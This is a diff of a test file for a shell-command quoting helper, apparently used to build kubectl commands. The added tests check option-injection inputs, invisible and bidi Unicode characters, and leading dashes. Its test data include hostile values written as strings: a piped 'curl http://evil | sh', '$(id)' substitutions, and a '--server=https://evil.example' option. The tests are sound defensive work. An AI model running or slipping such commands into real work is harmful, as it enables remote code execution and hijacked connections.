@@ -24,11 +24,25 @@ it.each(["shop", "jwks; curl http://evil | sh #", "$(id)", "`id`", "it's", "a b"
   expect(wordsOf(shellCommand`kubectl annotate x ${name}=${name}`)).toEqual(["kubectl", "annotate", "x", `${name}=${name}`]);
 });
 
+it("takes a name for no option, whatever it is called", () => {
+  expect(wordsOf(shellCommand`kubectl get configmap ${"--server=https://evil.example"} ${["-n", "shop"]}`).slice(3)).toEqual([
+    "?-server=https://evil.example",
+    "-n",
+    "shop",
+  ]);
+  // The thumbprint of a key may begin with a dash.
+  expect(shellCommand`kubectl annotate x keyturn.io/revoke=${"-aZ"}`).toBe("kubectl annotate x keyturn.io/revoke=-aZ");
+});
+
+it("shows nothing that turns the direction of a text, or that nobody sees", () => {
+  expect(shellCommand`get ${"a\u202eb\u200bc\u2066"}`).toBe("get 'a?b?c?'");
+});
+
 it("takes any text as one word, and shows no control character", () => {
   fc.assert(
     fc.property(fc.string({ unit: "grapheme" }), (text) => {
       // oxlint-disable-next-line no-control-regex -- they are what it is about
-      const visible = text.replaceAll(/[\u0000-\u001f\u007f-\u009f]/g, "?");
+      const visible = text.replaceAll(/[\u0000-\u001f\u007f-\u009f\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff]/g, "?").replace(/^-/, "?");
       expect(wordsOf(shellCommand`get ${text}`)).toEqual(["get", visible]);
     }),
     { numRuns: 50 },
